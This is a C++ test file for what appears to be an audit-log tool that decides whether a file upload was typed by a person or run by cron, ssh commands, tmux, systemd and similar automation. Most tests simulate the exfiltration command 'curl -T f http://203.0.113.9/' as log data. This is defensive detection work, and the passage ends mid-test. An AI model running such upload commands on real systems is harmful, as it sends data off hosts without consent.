#include "host_with_cron.hpp"

/// People and machines: who was sitting there.
namespace auexfil::test {
namespace {

/// `pid` runs curl -T to kDrop, sends and ends.
void curl(Log& log, int pid) {
  log.exec(pid, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(pid, 3, kDrop, 80);
  log.send(pid, 3, 150);
  log.send(pid, 3, 65536);
  log.close(pid, 3);
  log.exit(pid);
}

int child(Log& log, int parent, int pid) {
  log.fork(parent, pid);
  return pid;
}

}  // namespace

TEST_CASE("people: typed at a login shell") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  curl(log, child(log, shell, 510));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: terminals of programs that the log knows by their file, not by what they say") {
  struct Case {
    const char* exe;
    std::vector<std::string> argv;
    const char* sign;
  };
  const Case one = GENERATE(values<Case>({
      {"/usr/bin/kitty", {"kitty"}, "attended interactive-shell"},
      {"/nix/store/1-kitty/bin/.kitty-wrapped", {"kitty"}, "attended interactive-shell"},
      {"/opt/idea/jbr/bin/java", {"java", "com.intellij.idea.Main"}, "attended interactive-shell"},
      {"/home/ann/.vscode-server/bin/1234/node",
       {"node", "bootstrap-fork", "--type=ptyHost"},
       "unknown own-terminal"},
      {"/tmp/kitty", {"kitty"}, "unknown own-terminal"},
      {"/opt/evil", {"kitty"}, "unattended ssh-command"},
      {"/usr/bin/python3.11", {"/usr/bin/kitty"}, "unattended ssh-command"},
  }));
  CAPTURE(one.exe);
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  log.fork(user, 502);
  log.exec(502, "/usr/bin/bash", {"bash", "-c", "start"});
  const int terminal = log.run(502, 510, one.exe, one.argv);
  log.fork(terminal, 511);
  log.who(511).tty = "pts5";
  log.exec(511, "/usr/bin/bash", {"/bin/bash", "--init-file", "/x"});
  curl(log, child(log, 511, 512));
  CHECK(sign_of(tell(log).at(0)) == one.sign);
}

TEST_CASE("people: on a host without login sessions who hands out shells is known by its file") {
  struct Case {
    const char* exe;
    const char* called;
    bool is_machine;
  };
  const Case one = GENERATE(values<Case>({{"/usr/sbin/in.telnetd", "in.telnetd", false},
                                          {"/bin/busybox", "telnetd", false},
                                          {"/tmp/x", "sshd", true},
                                          {"/home/ann/bin/sshd", "sshd", true}}));
  CAPTURE(one.exe);
  CronHost log;
  const int server = log.run(1, 600, one.exe, {one.called});
  log.fork(server, 601);
  log.who(601).tty = "pts5";
  log.exec(601, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 601, 602));
  CHECK((tell(log).at(0).automation == transfer::Verdict::unattended) == one.is_machine);
}

TEST_CASE("people: a login shell by its name with a dash, whatever file it is") {
  const auto by = GENERATE(table<const char*, const char*>({{"/bin/busybox", "-ash"},
                                                            {"/bin/busybox", "-sh"},
                                                            {"/usr/bin/zsh5", "-zsh"},
                                                            {"/bin/bsd-csh", "-csh"}}));
  CAPTURE(std::get<1>(by));
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.exec(502, std::get<0>(by), {std::get<1>(by)});
  curl(log, child(log, 502, 503));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: what they name in a command is not what has started it") {
  const std::string operand = GENERATE("/tmp/atlassian-bamboo-9.2.1.tar.gz", "/srv/salt-minion",
                                       "/opt/venv/bin/ansible", "/srv/.ansible/tmp/ansible-tmp-1/x",
                                       "java agent.jar", "systemd --user", "/opt/puppet agent");
  const bool by_cron = GENERATE(false, true);
  CAPTURE(operand, by_cron);
  CronHost log;
  const int shell = by_cron ? log.job("up") : log.person(CronHost::kSshd, 500, 5);
  const int pid =
      log.run(shell, 510, "/usr/bin/curl", {"curl", "-T", operand, "http://203.0.113.9/"});
  log.tcp(pid, 3, kDrop, 80);
  log.send(pid, 3, 65536);
  log.done(pid);
  CHECK(sign_of(one(log)) == (by_cron ? "unattended cron" : "attended interactive-shell"));
}

TEST_CASE("people: a script of theirs may be called as a daemon is") {
  const std::string name = GENERATE("init", "cron", "monit", "celery", "upstart");
  CAPTURE(name);
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.fork(shell, 510);
  log.exec(510, "/usr/bin/bash", {"/bin/bash", "./" + name}, "./" + name);
  curl(log, child(log, 510, 511));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: a script that a person typed is attended and scripted") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.run(shell, 510, "/usr/bin/bash", {"/bin/bash", "./send.sh"});
  curl(log, child(log, 510, 511));
  const auto fact = one(log);
  CHECK(sign_of(fact) == "attended interactive-shell");
  CHECK(fact.scripted);
  CHECK(fact.script == "./send.sh");
}

TEST_CASE("people: where no login is in the log, sshd's terminals are somebody's") {
  // -a always,exclude -F msgtype=USER_LOGIN
  const bool is_in_log = GENERATE(false, true);
  CAPTURE(is_in_log);
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/bash", {"-bash"});
  log.fork(502, 503);
  log.exec(503, "/usr/bin/sudo", {"sudo", "-i"});
  log.fork(503, 504);
  log.exec(504, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 504, 505));
  if (is_in_log) {  // somebody else's
    static_cast<void>(log.person(CronHost::kSshd, 600, 6));
  }
  CHECK(sign_of(one(log)) == (is_in_log ? "unattended ssh-command" : "attended interactive-shell"));
}

TEST_CASE("people: sudo's sessions do not end the one that they are in") {
  const bool is_known = GENERATE(false, true);
  CAPTURE(is_known);
  CronHost log;
  int user = 501;
  if (is_known) {
    user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
  } else {
    log.there(501, 500, "/usr/sbin/sshd", 1000, 5);
  }
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/bash", {"-bash"});
  log.fork(502, 503);
  log.exec(503, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(503, 3, kDrop, 80);
  log.send(503, 3, 150);
  log.fork(502, 504);
  log.exec(504, "/usr/bin/sudo", {"sudo", "true"});
  log.user("USER_START", 504, "PAM:session_open", "/dev/pts/0");
  log.user("USER_END", 504, "PAM:session_close", "/dev/pts/0");
  log.send(503, 3, 65536);
  log.done(503);
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: channels of Fedora's sshd") {
  // The first one was a command; what its end says is not the session's end.
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  log.user("USER_LOGIN", 500, "login", "ssh");
  log.user("USER_START", 500, "login", "ssh");
  log.user("USER_START", 500, "login", "/dev/pts/0");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/bash", {"-bash"});
  log.fork(502, 503);
  log.exec(503, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(503, 3, kDrop, 80);
  log.send(503, 3, 150);
  const bool is_over = GENERATE(false, true);
  CAPTURE(is_over);
  log.user("USER_END", 500, "login", "ssh");
  if (is_over) {
    log.user("USER_END", 500, "PAM:session_close", "ssh");
  }
  log.pass(120'000);
  log.send(503, 3, 65536);
  log.done(503);
  CHECK((sign_of(one(log)) == "attended interactive-shell") == !is_over);
}

TEST_CASE("people: a console login") {
  CronHost log;
  const int login = log.run(1, 400, "/usr/bin/login", {"/bin/login", "-p", "--"});
  log.who(login).tty = "tty1";
  log.login(login, 1000, 4);
  log.user("USER_START", login, "PAM:session_open", "/dev/tty1");
  log.user("USER_LOGIN", login, "login", "/dev/tty1");
  log.fork(login, 401);
  log.exec(401, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 401, 402));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: sudo -i and su - of a person") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5, 1000, "pts2");
  const int sudo = log.run(shell, 510, "/usr/bin/sudo", {"sudo", "-i"});
  log.user("USER_START", sudo, "PAM:session_open", "pts/2");
  log.fork(sudo, 511);
  log.fork(511, 512);
  log.who(512).tty = "pts3";
  log.who(512).uid = 0;
  log.exec(512, "/usr/bin/bash", {"-bash"});
  const int su = log.run(512, 513, "/usr/bin/su", {"su", "-", "bob"});
  log.run(su, 514, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 514, 515));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: tmux and screen of a person, attached") {
  const bool screen = GENERATE(false, true);
  CAPTURE(screen);
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const std::string program = screen ? "/usr/bin/screen" : "/usr/bin/tmux";
  const int client = log.run(shell, 510, program, {screen ? "screen" : "tmux"});
  log.fork(client, 511);
  log.fork(511, 512);
  log.exit(511);
  log.who(512).ppid = screen ? client : 1;
  log.setsid(512);
  log.fork(512, 513);
  log.who(513).tty = "pts4";
  log.exec(513, "/usr/bin/bash", {screen ? "/bin/bash" : "-bash"});
  curl(log, child(log, 513, 514));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

namespace {

/// tmux or screen, typed at a shell. \return the shell that it starts.
int multiplexed(Log& log, int shell, const std::vector<std::string>& typed) {
  const int client = log.run(shell, 510, "/usr/bin/" + typed[0], typed);
  log.fork(client, 512);
  log.who(512).ppid = 1;
  log.setsid(512);
  log.fork(512, 513);
  log.who(513).tty = "pts4";
  log.exec(513, "/usr/bin/bash", {"-bash"});
  return 513;
}

}  // namespace

TEST_CASE("people: tmux left behind, and taken up again") {
  enum class Then { nothing, attached, detached_again, other_user, command, over_ssh };
  const Then then = GENERATE(Then::nothing, Then::attached, Then::detached_again, Then::other_user,
                             Then::command, Then::over_ssh);
  const bool is_script = GENERATE(false, true);
  CAPTURE(then, is_script);
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  int pane = multiplexed(log, shell, {"tmux"});
  if (is_script) {
    pane = log.run(pane, 514, "/usr/bin/bash", {"/bin/bash", "./loop.sh"});
  }
  log.exit(shell);
  log.user("USER_END", 500, "PAM:session_close", "ssh");
  log.pass(3'600'000);
  if (then == Then::over_ssh) {
    const int user = log.ssh_login(CronHost::kSshd, 600, 601, 6, 1000, "pts0");
    log.fork(user, 602);
    log.who(602).tty = "pts0";
    log.exec(602, "/usr/bin/bash", {"bash", "-c", "tmux attach"});
    log.exec(602, "/usr/bin/tmux", {"tmux", "attach"});
  } else if (then != Then::nothing) {
    log.person(CronHost::kSshd, 600, 6, then == Then::other_user ? 1001 : 1000);
    const std::vector<std::string> argv =
        then == Then::command ? std::vector<std::string>{"tmux", "send-keys", "x", "Enter"}
                              : std::vector<std::string>{"tmux", "attach", "-t", "0"};
    log.run(602, 603, "/usr/bin/tmux", argv);
    if (then == Then::detached_again) {
      log.exit(603);
      log.pass(5000);
    }
  }
  curl(log, child(log, pane, 520));
  const bool sits = then == Then::attached || then == Then::over_ssh;
  CHECK(sign_of(one(log)) == (!sits       ? "unattended left-behind"
                              : is_script ? "unknown perhaps-asked-for"
                                          : "attended interactive-shell"));
}

TEST_CASE("people: tmux and screen that nobody has sat at from the first") {
  const auto typed = GENERATE(values<std::vector<std::string>>({
      {"tmux", "new", "-d"},
      {"tmux", "-L", "x", "new-session", "-ds", "sync"},
      {"tmux", "new-session", "-s", "sync", "-d"},
      {"screen", "-dmS", "sync"},
      {"screen", "-S", "sync", "-d", "-m"},
  }));
  CAPTURE(typed);
  const bool attaches = GENERATE(false, true);
  CAPTURE(attaches);
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int pane = multiplexed(log, shell, typed);
  if (attaches) {
    log.run(shell, 515, "/usr/bin/" + typed[0], {typed[0], typed[0] == "tmux" ? "attach" : "-r"});
  }
  curl(log, child(log, pane, 520));
  CHECK(sign_of(one(log)) == (attaches ? "attended interactive-shell" : "unattended detached"));
}

TEST_CASE("people: mosh outlives the session of ssh, and tmux is taken up in it") {
  const bool attaches = GENERATE(true, false);
  CAPTURE(attaches);
  CronHost log;
  const int pane =
      multiplexed(log, log.person(CronHost::kSshd, 600, 6), {"tmux", "new", "-d", "-s", "x"});
  log.user("USER_END", 600, "PAM:session_close", "ssh");
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  log.run(user, 700, "/usr/bin/mosh-server", {"mosh-server", "new", "-s"});
  log.fork(700, 701);
  log.setsid(701);
  log.user("USER_END", 500, "PAM:session_close", "ssh");
  log.fork(701, 702);
  log.who(702).tty = "pts1";
  log.exec(702, "/usr/bin/bash", {"-bash"});
  if (attaches) {
    log.run(702, 703, "/usr/bin/tmux", {"tmux", "attach"});
  }
  curl(log, child(log, attaches ? pane : 702, 704));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: an option of what tmux runs is not tmux's, and a command after it counts") {
  const auto typed =
      GENERATE(values<std::vector<std::string>>({{"tmux", "new", "-s", "x", "rsync -d"},
                                                 {"tmux", "new", "-d", "-s", "x", ";", "attach"},
                                                 {"tmux", "-2", "new", "-As", "main"},
                                                 {"tmux", "-L", "d"}}));
  CAPTURE(typed);
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int pane = multiplexed(log, shell, typed);
  curl(log, child(log, pane, 520));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: screen that runs a program without a shell, and nobody at it") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int client = log.run(shell, 510, "/usr/bin/screen", {"screen", "-dmS", "up", "curl"});
  log.fork(client, 512);
  log.who(512).ppid = 1;
  log.setsid(512);
  log.fork(512, 513);
  log.who(513).tty = "pts4";
  curl(log, 513);
  CHECK(sign_of(one(log)) == "unattended detached");
}

TEST_CASE("people: a tmux of cron's or of the user's manager that a person has taken up") {
  const bool attaches = GENERATE(false, true);
  CAPTURE(attaches);
  CronHost log;
  const int shell = log.job("tmux new -d", 1000);
  log.who(shell).uid = 1000;
  const int pane = multiplexed(log, shell, {"tmux", "new", "-d"});
  if (attaches) {
    log.run(log.person(CronHost::kSshd, 600, 6), 603, "/usr/bin/tmux", {"tmux", "a"});
  }
  curl(log, child(log, pane, 520));
  CHECK(sign_of(one(log)) == (attaches ? "unknown perhaps-asked-for" : "unattended cron"));
}

TEST_CASE("people: a session whose beginning is not in the log, below tmux or nothing known") {
  enum class Above { nothing, tmux, sudo, sshd };
  const Above above = GENERATE(Above::nothing, Above::tmux, Above::sudo, Above::sshd);
  CAPTURE(above);
  CronHost log;
  const char* const exe = above == Above::tmux   ? "/usr/bin/tmux"
                          : above == Above::sshd ? "/usr/sbin/sshd"
                                                 : "/usr/bin/bash";
  log.there(501, above == Above::tmux ? 1 : 500, exe, 1000, 5,
            above == Above::sudo || above == Above::nothing ? "pts0" : "(none)");
  log.who(501).title = {above == Above::tmux ? "tmux" : "-bash"};
  int parent = 501;
  if (above == Above::sudo) {
    parent = log.run(501, 503, "/usr/bin/sudo", {"sudo", "-i"});
    log.user("USER_START", 503, "PAM:session_open", "/dev/pts/0");
  }
  log.fork(parent, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 502, 504));
  CHECK(sign_of(one(log)) ==
        (above == Above::sshd ? "attended interactive-shell" : "unknown out-of-sight"));
}

TEST_CASE("people: set apart in a session whose beginning is not in the log") {
  CronHost log;
  log.there(501, 500, "/usr/bin/bash", 1000, 5, "pts0");
  log.who(501).title = {"-bash"};
  log.fork(501, 502);
  log.exec(502, "/usr/bin/setsid", {"setsid", "curl"});
  log.setsid(502);
  curl(log, 502);
  CHECK(sign_of(one(log)) == "unattended detached");
}

TEST_CASE("people: on the terminal of a login, without a shell that reads it") {
  const bool is_menu = GENERATE(false, true);
  const bool same = GENERATE(true, false);
  CAPTURE(is_menu, same);
  CronHost log;
  const int sshd = log.run(CronHost::kSshd, 500, "/usr/sbin/sshd", {"/usr/sbin/sshd", "-R"});
  log.login(sshd, 1000, 5);
  log.user("USER_START", sshd, "PAM:session_open", "ssh", "192.0.2.77");
  log.user("USER_LOGIN", sshd, "login", "/dev/pts/0", "192.0.2.77");
  log.fork(sshd, 501);
  log.fork(501, 502);
  log.who(502).tty = same ? "pts0" : "pts7";
  if (is_menu) {
    log.exec(502, "/usr/bin/bash", {"/bin/bash", "/usr/local/bin/menu"}, "/usr/local/bin/menu");
  } else {
    log.exec(502, "/usr/bin/bash", {"bash", "-c", "curl; ls"});
  }
  curl(log, child(log, 502, 503));
  CHECK(sign_of(one(log)) == (same ? "unknown login-terminal" : "unattended ssh-command"));
}

TEST_CASE("people: ansible that a person typed is on their terminal") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.run(shell, 510, "/usr/bin/ansible-playbook", {"ansible-playbook", "deploy.yml"});
  curl(log, child(log, 510, 511));
  CHECK(signs_of(one(log)) == "unattended ansible");
}

TEST_CASE("people: programs of a desktop") {
  enum class On { nothing, display, display_left, shell };
  const On on = GENERATE(On::nothing, On::display, On::display_left, On::shell);
  CAPTURE(on);
  CronHost log;
  const int manager = log.run(1, 600, "/usr/lib/systemd/systemd", {"(systemd)"});
  log.login(manager, 1000, 3);
  log.user("USER_START", manager, "PAM:session_open", "?");
  log.exec(manager, "/usr/lib/systemd/systemd", {"/lib/systemd/systemd", "--user"});
  int parent = manager;
  if (on == On::display || on == On::display_left) {
    const int worker = log.run(1, 610, "/usr/libexec/gdm-session-worker", {"gdm-session-worker"});
    log.login(worker, 1000, 4);
    log.user("USER_START", worker, "PAM:session_open", "/dev/tty2");
    log.user("USER_LOGIN", worker, "login", "/dev/tty2");
    if (on == On::display_left) {
      log.user("USER_END", worker, "PAM:session_close", "/dev/tty2");
      log.pass(60'000);
    }
  } else if (on == On::shell) {
    parent = log.run(manager, 620, "/usr/bin/gnome-shell", {"/usr/bin/gnome-shell"});
  }
  curl(log, child(log, parent, 630));
  CHECK(sign_of(one(log)) == (on == On::display ? "unknown graphical-login"
                              : on == On::shell ? "unknown seat"
                                                : "unattended user-unit"));
}

TEST_CASE("people: what has terminals in a browser") {
  struct Case {
    const char* exe;
    std::vector<std::string> argv;
    const char* script;
  };
  const Case one_of = GENERATE(values<Case>({
      {"/usr/bin/python3.11", {"/usr/bin/python3", "/opt/bin/jupyter-lab"}, "/opt/bin/jupyter-lab"},
      {"/usr/bin/python3.11", {"/usr/bin/python3", "/opt/bin/jupyter-lab"}, ""},
      {"/usr/lib/code-server/lib/node", {"node", "/usr/lib/code-server/out/node/entry"}, ""},
      {"/usr/lib/rstudio-server/bin/rsession", {"rsession", "-u", "ann"}, ""},
      {"/usr/bin/node", {"node", "/usr/lib/node_modules/wetty/build/main.js"}, ""},
      {"/usr/bin/perl", {"/usr/bin/perl", "/usr/share/webmin/xterm/shellserver.pl"}, ""},
  }));
  CAPTURE(one_of.argv);
  CronHost log;
  log.fork(1, 600);
  log.exec(600, one_of.exe, one_of.argv, one_of.script);
  log.fork(600, 601);
  log.who(601).tty = "pts0";
  log.exec(601, "/usr/bin/bash", {"bash"});
  curl(log, child(log, 601, 602));
  CHECK(sign_of(one(log)) == "unknown seat");
}

TEST_CASE("people: an editor's own programs, without a terminal") {
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  const int server = log.run(user, 502, "/home/ann/.vscode-server/bin/1/node", {"node", "x"});
  const int git = log.run(server, 503, "/usr/bin/git", {"git", "push"});
  curl(log, child(log, git, 504));
  CHECK(sign_of(one(log)) == "unknown seat");
}

TEST_CASE("people: a desktop's terminal under the user's service manager") {
  CronHost log;
  const int manager = log.run(1, 600, "/usr/lib/systemd/systemd", {"(systemd)"});
  log.login(manager, 1000, 3);
  log.user("USER_START", manager, "PAM:session_open", "?");
  log.exec(manager, "/usr/lib/systemd/systemd", {"/lib/systemd/systemd", "--user"});
  const int terminal = log.run(manager, 601, "/usr/libexec/gnome-terminal-server",
                               {"/usr/libexec/gnome-terminal-server"});
  log.fork(terminal, 602);
  log.who(602).tty = "pts0";
  log.exec(602, "/usr/bin/bash", {"bash"});
  curl(log, child(log, 602, 603));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: mosh's server holds the terminal of a session that ssh opened without one") {
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "");
  log.fork(user, 502);
  log.exec(502, "/usr/bin/mosh-server", {"mosh-server", "new", "-s"});
  log.fork(502, 503);
  log.who(503).ppid = 1;
  log.setsid(503);
  log.fork(503, 504);
  log.who(504).tty = "pts0";
  log.exec(504, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 504, 505));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: a host without login sessions (no pam_loginuid)") {
  CronHost log;
  log.there(700, CronHost::kSshd, "/usr/sbin/sshd");
  log.fork(700, 701);
  log.who(701).tty = "pts0";
  log.exec(701, "/bin/ash", {"-ash"});
  curl(log, child(log, 701, 702));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: the exec of the login shell is lost") {
  // The shell's own calls still tell of it, by exe and title.
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.lose(1);
  log.who(502).exe = "/usr/bin/bash";
  log.who(502).comm = "-bash";
  curl(log, child(log, 502, 503));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: the exec of the login shell is lost, and the shell is not seen otherwise") {
  CronHost log;
  log.audited = all_but({"clone"});
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.who(502).exe = "/usr/bin/bash";
  log.lose(1);
  curl(log, child(log, 502, 503));
  CHECK(one(log).automation == transfer::Verdict::unknown);
}

TEST_CASE("people: setsid between the shell and the tool: nobody holds its terminal") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.fork(shell, 510);
  log.exec(510, "/usr/bin/setsid", {"setsid", "curl", "-T", "f", "http://203.0.113.9/"});
  log.setsid(510);
  curl(log, 510);
  CHECK(one(log).automation == transfer::Verdict::unattended);
}

TEST_CASE("people: a session whose beginning was rotated away, its shell in sight") {
  CronHost log;
  log.there(501, 500, "/usr/sbin/sshd", 1000, 5);
  log.fork(501, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/bash", {"-bash"});
  curl(log, child(log, 502, 503));
  CHECK(sign_of(one(log)) == "attended interactive-shell");
}

TEST_CASE("people: a session whose beginning was rotated away, nothing in sight") {
  CronHost log;
  log.there(502, 501, "/usr/bin/bash", 1000, 5, "pts0");
  log.inherit(502, 503);
  curl(log, 503);
  CHECK(one(log).automation == transfer::Verdict::unknown);
}

TEST_CASE("people: in a rotated-away session, expect's and script's shells are no persons") {
  const std::string program = GENERATE("/usr/bin/expect", "/usr/bin/script", "/usr/bin/sshpass");
  CAPTURE(program);
  CronHost log;
  log.there(501, 500, "/usr/bin/dash", 1000, 5);
  log.run(501, 502, program, {program, "x"});
  log.fork(502, 503);
  log.who(503).tty = "pts0";
  log.exec(503, "/usr/bin/bash", {"bash", "-i"});
  curl(log, child(log, 503, 504));
  CHECK(one(log).automation != transfer::Verdict::attended);
}

TEST_CASE("machines: cron → su -, with a dash before the shell's name") {
  CronHost log;
  const int shell = log.job("su - alice -c 'curl …'");
  const int su = log.run(shell, 1900, "/usr/bin/su", {"su", "-", "alice", "-c", "curl"});
  log.user("USER_START", su, "PAM:session_open", "?");
  log.fork(su, 1901);
  log.setsid(1901);
  log.exec(1901, "/usr/bin/bash", {"-bash", "-c", "curl -T f http://203.0.113.9/"});
  curl(log, child(log, 1901, 1902));
  CHECK(sign_of(one(log)) == "unattended cron");
}

TEST_CASE("machines: sudo, doas and their kin from cron") {
  const std::string program = GENERATE("/usr/bin/sudo", "/usr/bin/doas", "/usr/bin/sudo-rs",
                                       "/usr/sbin/runuser", "/usr/bin/setpriv", "/usr/bin/pkexec");
  CAPTURE(program);
  CronHost log;
  const int shell = log.job("sudo curl");
  const int sudo = log.run(shell, 1900, program, {program, "curl"});
  curl(log, child(log, sudo, 1901));
  CHECK(sign_of(one(log)) == "unattended cron");
}

TEST_CASE("machines: cron by all its names") {
  const auto exe =
      GENERATE(values<std::string>({"/usr/sbin/cron", "/usr/sbin/crond", "/usr/sbin/fcron",
                                    "/usr/sbin/anacron", "/usr/sbin/atd", "/bin/busybox"}));
  CAPTURE(exe);
  Log log;
  const bool busybox = exe == "/bin/busybox";
  log.fork(1, 300);
  log.exec(300, exe, {busybox ? "crond" : exe, "-f"});
  log.fork(300, 301);
  log.exec(301, "/bin/sh", {"/bin/sh", "-c", "job"});
  curl(log, child(log, 301, 302));
  CHECK(one(log).automation == transfer::Verdict::unattended);
  CHECK(sign_of(one(log)) != "unattended no-session");
}

TEST_CASE("machines: a daemon that was there before auditd is known by its name") {
  const auto who = GENERATE(table<std::string, std::string, std::string>(
      {{"/usr/sbin/cron", "cron", "cron"},
       {"/usr/sbin/crond", "crond", "cron"},
       {"/bin/busybox", "crond", "cron"},
       {"/usr/bin/python3.11", "salt-minion", "salt"},
       {"/usr/bin/ruby3.1", "puppet", "puppet"},
       {"/usr/bin/gitlab-runner", "gitlab-runner", "gitlab-runner"}}));
  CAPTURE(std::get<0>(who), std::get<1>(who));
  const bool titles = GENERATE(true, false);
  Log log;
  log.titles = titles;
  log.there(300, 1, std::get<0>(who));
  log.who(300).comm = std::get<1>(who);
  log.fork(300, 301);
  log.exec(301, "/usr/bin/dash", {"/bin/sh", "-c", "job"});
  curl(log, child(log, 301, 302));
  CHECK(sign_of(one(log)) == "unattended " + std::get<2>(who));
}

TEST_CASE("machines: where only execs are in the log, a job's session names cron") {
  CronHost log;
  log.audited = only({"execve", "connect", "close", "sendto"});
  const int shell = log.job("curl");
  curl(log, child(log, shell, 1900));
  CHECK(one(log).automation == transfer::Verdict::unattended);
}

TEST_CASE("machines: ssh HOST COMMAND") {
  const bool terminal = GENERATE(false, true);
  CAPTURE(terminal);
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, terminal ? "pts0" : "");
  log.fork(user, 502);
  log.who(502).tty = terminal ? "pts0" : "(none)";
  log.exec(502, "/usr/bin/bash", {"bash", "-c", "curl -T f http://203.0.113.9/"});
  curl(log, 502);
  CHECK(sign_of(one(log)) == (terminal ? "unknown login-terminal" : "unattended ssh-command"));
}

TEST_CASE("machines: ssh HOST COMMAND by OpenSSH 9.8 and later") {
  CronHost log;
  const int sshd = CronHost::kSshd;
  log.fork(sshd, 500);
  log.exec(500, "/usr/lib/openssh/sshd-session", {"/usr/lib/openssh/sshd-session", "-D", "-R"});
  log.login(500, 1000, 5);
  log.user("USER_START", 500, "PAM:session_open", "ssh", "192.0.2.77");
  log.fork(500, 501);
  log.fork(501, 502);
  log.exec(502, "/usr/bin/bash", {"bash", "-c", "curl -T f http://203.0.113.9/"});
  curl(log, child(log, 502, 503));
  CHECK(sign_of(one(log)) == "unattended ssh-command");
}

TEST_CASE("machines: ansible asks for a terminal that nobody sits at") {
  CronHost log;
  const int user = log.ssh_login(CronHost::kSshd, 500, 501, 5, 1000, "pts0");
  log.fork(user, 502);
  log.who(502).tty = "pts0";
  log.exec(502, "/usr/bin/dash",
           {"/bin/sh", "-c",
            "/usr/bin/python3 /home/a/.ansible/tmp/ansible-tmp-1-2/AnsiballZ_copy.py && sleep 0"});
  log.run(502, 503, "/usr/bin/python3.11",
          {"/usr/bin/python3", "/home/a/.ansible/tmp/ansible-tmp-1-2/AnsiballZ_copy.py"});
  curl(log, child(log, 503, 504));
  CHECK(sign_of(one(log)) == "unattended ansible");
}

TEST_CASE("machines: terminals made up under cron") {
  const auto by = GENERATE(table<std::string, std::vector<std::string>>(
      {{"/usr/bin/script", {"script", "-qc", "curl", "/dev/null"}},
       {"/usr/bin/expect", {"expect", "-f", "/opt/talk.exp"}},
       {"/usr/bin/sshpass", {"sshpass", "-p", "x", "curl"}},
       {"/usr/bin/tmux", {"tmux", "new", "-d", "curl"}},
       {"/usr/bin/screen", {"screen", "-dm", "curl"}}}));
  const bool shell_between = GENERATE(false, true);
  CAPTURE(std::get<0>(by), shell_between);
  CronHost log;
  int pid = log.tool(std::get<0>(by), std::get<1>(by));
  log.fork(pid, 1900);
  log.who(1900).tty = "pts7";
  if (shell_between) {
    log.exec(1900, "/usr/bin/bash", {"bash", "-i"});
    log.fork(1900, 1901);
    pid = 1901;
  } else {
    pid = 1900;
  }
  curl(log, pid);
  CHECK(sign_of(one(log)) == "unattended cron");
}

TEST_CASE("machines: services, timers and what systemd's executor starts") {
  const bool executor = GENERATE(false, true);
  CAPTURE(executor);
  Log log;
  log.fork(1, 400);
  if (executor) {
    log.exec(400, "/usr/lib/systemd/systemd-executor",
             {"/usr/lib/systemd/systemd-executor", "--deserialize", "42"});
  }
  curl(log, 400);
  CHECK(sign_of(one(log)) == "unattended service");
}

TEST_CASE("machines: systemd-run typed by a person is a service's child") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  log.run(shell, 510, "/usr/bin/systemd-run", {"systemd-run", "curl"});
  log.exit(510);
  curl(log, child(log, 1, 511));
  CHECK(sign_of(one(log)) == "unattended service");
}

TEST_CASE("machines: a lingering user's timer") {
  Log log;
